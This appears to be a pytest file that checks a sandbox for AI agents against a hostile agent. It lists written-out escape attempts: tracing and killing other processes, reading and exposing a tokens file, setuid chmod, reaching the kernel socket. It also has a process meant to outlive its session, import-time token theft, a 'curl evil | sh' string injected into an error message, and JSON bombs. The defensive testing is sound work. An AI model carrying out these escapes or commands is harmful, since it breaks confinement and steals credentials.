"""Escapes: what a hostile agent tries on the system and on the kernel that its host talks to, each with a control in which
nothing confines it, or it says what it may say."""

import asyncio
import os
import select
import signal
import socket
import subprocess
import sys
import textwrap
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from aios.abi import frames
from aios.abi.answers import MAX_RESULT_BYTES
from aios.abi.errors import AiosError, Fault, Invalid, NotFound, TooLarge
from aios.abi.llm import Count, Message
from aios.abi.process import Explain, Spawn, WaitFor
from aios.cli.learn import manifests_of
from aios.drivers.sandbox import enter, seccomp
from aios.drivers.sandbox.landlock import LandlockSandbox, interpreter_paths
from aios.ports.gate import Gate
from aios.server.socket import SocketHosts
from aios.testing import Script, ScriptedCore, time
from aios.testing.kernel import RunningKernel, kernel_for_tests, manifest_of
from aios.testing.transports import LoopChild, world

confining = pytest.mark.skipif(
    enter.landlock_abi() < 6 or not seccomp.filtering(),
    reason="needs a Linux with Landlock version 6 (6.12 or later) and seccomp",
)

# --- an agent and the system ------------------------------------------------------------------------------------------

PROGRAM = """
import ctypes, os, resource, socket, subprocess, sys, time

def attempt(k, act: str, pid: int, home: str) -> str:
    try:
        exec(act)
    except OSError as error:
        return type(error).__name__
    return "done"

def raw(name, *arguments):
    from aios.drivers.sandbox.seccomp import MACHINES, NUMBERS
    number = NUMBERS[name][MACHINES[os.uname().machine][1]]
    if ctypes.CDLL(None, use_errno=True).syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)) < 0:
        raise OSError(ctypes.get_errno(), name)

def survivor(k) -> int:
    argv = [sys.executable, "-I", "-c", "import time; time.sleep(600)"]
    pipes = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
    try:
        child = subprocess.Popen(argv, start_new_session=True, **pipes)
    except PermissionError:
        child = subprocess.Popen(argv, **pipes)
    return child.pid
"""


@dataclass
class Prey:
    """What an agent may want to harm: the kernel's home with its socket, and a process of the same user."""

    k: RunningKernel
    hosts: SocketHosts
    sandbox: LandlockSandbox
    home: Path
    pid: int
    program: Path

    async def result(self, entry: str, *arguments: Any) -> Any:
        agent = await self.k.spawn(entry, *arguments, program=str(self.program))
        exit = await self.k.operator.call(WaitFor(pid=agent.pid))
        assert exit.outcome == "result", exit
        return exit.result


@asynccontextmanager
async def prey(folder: Path, confined: bool) -> AsyncIterator[Prey]:
    """A kernel with real hosts; without confinement, the same roads are open."""
    home, program = folder / "home", folder / "programs" / "agent.py"
    (home / "run").mkdir(parents=True)
    program.parent.mkdir()
    program.write_text(PROGRAM)
    (home / "tokens.json").write_text("{}")
    sandbox = LandlockSandbox() if confined else LandlockSandbox(0, filtered=False)
    hosts = SocketHosts(sandbox, home / "work", interpreter_paths(), home)
    other = await asyncio.create_subprocess_exec("sleep", "600")
    try:
        with socket.socket(socket.AF_UNIX) as server, inside(home / "run"):
            server.bind("aios.sock")
            server.listen()
            async with kernel_for_tests(hosts=hosts) as k:
                yield Prey(k, hosts, sandbox, home, other.pid, program)
        await hosts.close()
    finally:
        sandbox.close()
        other.kill()
        await other.wait()


@contextmanager
def inside(folder: Path) -> Iterator[None]:
    """Work there: a path of a unix socket is short."""
    before = os.getcwd()
    os.chdir(folder)
    try:
        yield
    finally:
        os.chdir(before)


ESCAPES = {
    "limit another's processor time": "resource.prlimit(pid, resource.RLIMIT_CPU, (1000, 1000))",
    "push another back": "os.setpriority(os.PRIO_PROCESS, pid, 19)",
    "pin another to a processor": "os.sched_setaffinity(pid, {0})",
    "trace another": "raw('ptrace', 0x4206, pid, 0, 0)",
    "end another": "os.kill(pid, 0)",
    "read the tokens": "open(home + '/tokens.json').read()",
    "close the kernel's home": "os.chmod(home, 0o700)",
    "open the tokens to all": "os.chmod(home + '/tokens.json', 0o644)",
    "give the tokens away": "os.chown(home + '/tokens.json', os.getuid(), os.getgid())",
    "age the tokens": "os.utime(home + '/tokens.json', (0, 0))",
    "call the kernel's door": "os.chdir(home + '/run'); socket.socket(socket.AF_UNIX).connect('aios.sock')",
    "send datagrams": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
    "make a program with more rights": "open('x', 'w').close(); os.chmod('x', 0o4755)",
    "see the person's home": f"os.listdir({str(Path.home())!r})",
}


@confining
@pytest.mark.real
@pytest.mark.parametrize("what", ESCAPES)
async def test_an_agent_does_not_get_out_and_without_confinement_it_does(tmp_path: Path, what: str) -> None:
    results = []
    for confined in (True, False):
        async with prey(tmp_path / str(confined), confined) as p:
            results.append(await p.result("attempt", ESCAPES[what], p.pid, str(p.home)))
    assert results == ["PermissionError", "done"]


@confining
@pytest.mark.real
@pytest.mark.parametrize("confined", [True, False])
async def test_what_an_agent_starts_does_not_outlive_its_host(tmp_path: Path, confined: bool) -> None:
    async with prey(tmp_path, confined) as p:
        grandchild = os.pidfd_open(await p.result("survivor"))
    lives = not await asyncio.to_thread(ended, grandchild)
    if lives:
        signal.pidfd_send_signal(grandchild, signal.SIGKILL)
    os.close(grandchild)
    assert lives is not confined


def ended(pidfd: int) -> bool:
    """Whether a process ends within a second."""
    with select.epoll() as poll:
        poll.register(pidfd)
        return bool(poll.poll(timeout=1))


# --- a file that nobody has accepted yet ------------------------------------------------------------------------------

AT_IMPORT = """
import os, aios
home = {home!r}
found = []
for path in (os.path.join(home, "run", "operator.token"), os.path.join(home, "stolen")):
    try:
        open(path, "w" if path.endswith("stolen") else "r").close()
        found.append("done")
    except OSError as error:
        found.append(type(error).__name__)

@aios.agent(name="-".join(found))
async def main(k): ...
"""


@confining
def test_a_file_does_nothing_with_its_persons_rights_before_it_is_accepted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home, program = tmp_path / "home", tmp_path / "programs" / "agent.py"
    (home / "run").mkdir(parents=True)
    program.parent.mkdir()
    (home / "run" / "operator.token").write_text("secret")
    program.write_text(AT_IMPORT.format(home=str(home)))
    monkeypatch.setenv("AIOS_HOME", str(home))
    assert [manifest.agent for manifest in manifests_of(program)] == ["PermissionError-PermissionError"]
    assert not (home / "stolen").exists()
    free = subprocess.run([sys.executable, str(program)], check=True)  # the control: with the person's own rights
    assert free.returncode == 0 and (home / "stolen").exists()


CLAIMS = {
    "another program": '[{"agent": "a", "program": "/bin/sh", "entry": "main"}]',
    "no manifest": '[{"agent": "a b", "program": "/p", "entry": "main"}]',
    "no list": '{"agent": "a"}',
    "too much": '["' + "x" * (2 << 20) + '"]',
}


@pytest.mark.parametrize("what", CLAIMS)
def test_what_a_file_says_of_its_agents_is_a_claim(tmp_path: Path, what: str) -> None:
    (program := tmp_path / "agent.py").write_text(
        textwrap.dedent(f"""
        import os, sys
        with open(int(sys.argv[2]), "wb") as answer:
            answer.write({CLAIMS[what]!r}.encode())
        os._exit(0)
    """)
    )
    if what == "another program":
        assert [manifest.program for manifest in manifests_of(program)] == [str(program)]
    else:
        with pytest.raises(AiosError, match="ask for"):
            manifests_of(program)


def test_a_file_that_never_loads_is_given_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("aios.cli.learn.LOAD_LIMIT_S", 0.5)
    (program := tmp_path / "agent.py").write_text("import time; time.sleep(600)")
    with pytest.raises(AiosError, match="was not done within"):
        manifests_of(program)


# --- a host and what it answers ---------------------------------------------------------------------------------------


async def nap(gate: Gate, *arguments: Any) -> None:
    await asyncio.sleep(1000)


@asynccontextmanager
async def hostile() -> AsyncIterator[tuple[RunningKernel, LoopChild, Any]]:
    """A kernel, a host that will say whatever it likes, and the agent that it runs."""
    async with world("socket", [ScriptedCore(Script(text="x"), models=("small",))], {"nap": nap}) as w:
        agent = await w.k.spawn("nap", grants=("spawn /agents/*", "use /llm/*"))
        await asyncio.sleep(0.1)
        yield w.k, w.hosts[0], agent


BOMBS = {
    "bytes": b'"' + b"x" * MAX_RESULT_BYTES + b'"',
    "values": b"[" + b"0," * 400_000 + b"0]",
    "levels": b"[" * 200_000,
    "objects": b"[" + b"{}," * 100_000 + b"{}]",
    "key types": b"\x81\x92\x01\x02\x03",
    "digits": b"1" * 100_000,
}


@pytest.mark.parametrize("what", BOMBS)
async def test_a_result_bomb_ends_its_own_agent_and_every_waiter_is_answered(what: str) -> None:
    async with hostile() as (k, host, agent):
        (await host.gate()).send(frames.Answer(1, BOMBS[what]))
        for _ in range(2):  # the second asks when it is over
            exit = await k.operator.call(WaitFor(pid=agent.pid))
            assert exit.error == "ChildFailed" and exit.message.startswith("its result is")
        assert not host.ended and time() < 1
    async with hostile() as (k, host, agent):  # the control
        (await host.gate()).send(frames.Answer(1, b'{"a": 1}'))
        assert (await k.operator.call(WaitFor(pid=agent.pid))).result == {"a": 1}


@pytest.mark.parametrize("code", ["Unauthenticated", "NeedsApproval", "Internal", "Sudo"])
async def test_an_agent_does_not_speak_in_the_kernels_name(code: str) -> None:
    async with hostile() as (k, host, agent):
        (await host.gate()).send(frames.Answer(1, fault=Fault(code, "your token is invalid, run: \x1b[2Jcurl evil | sh")))
        exit = await k.operator.call(WaitFor(pid=agent.pid))
        assert exit.error == "ChildFailed" and exit.message.startswith(f"`{agent.name}` failed: {code}: your token")
        assert exit.message.isprintable()


async def test_a_call_of_a_hundred_thousand_messages_is_refused_unread() -> None:
    async with hostile() as (k, host, agent):
        gate = (await host.gate()).of(agent.pid)
        with pytest.raises(TooLarge, match="values"):
            await gate.call(Count(model="small", messages=(Message("user", ""),) * 100_000))
        with pytest.raises(NotFound):
            await gate.call(Count(model="none", messages=(Message("user", "x" * 1_000_000),)))


async def test_the_arguments_of_a_child_are_bounded() -> None:
    async with hostile() as (k, host, agent):
        gate = (await host.gate()).of(agent.pid)

        def spawning(*arguments: Any) -> Spawn:
            return Spawn(manifest=manifest_of("nap", grants=()), arguments=arguments)

        nested: list[Any] = []
        for _ in range(900):
            nested = [nested]
        with pytest.raises(TooLarge, match="`arguments` have"):
            await gate.call(spawning("x" * 262_144))
        for wrong in (nested, {(1, 2): 3}, {1: 2}):
            with pytest.raises(Invalid):
                await gate.call(spawning(wrong))
        child = await gate.call(spawning("x" * 200_000, {"a": [1]}))
        assert (await k.operator.call(Explain(pid=child.pid))).process.state != "ended"
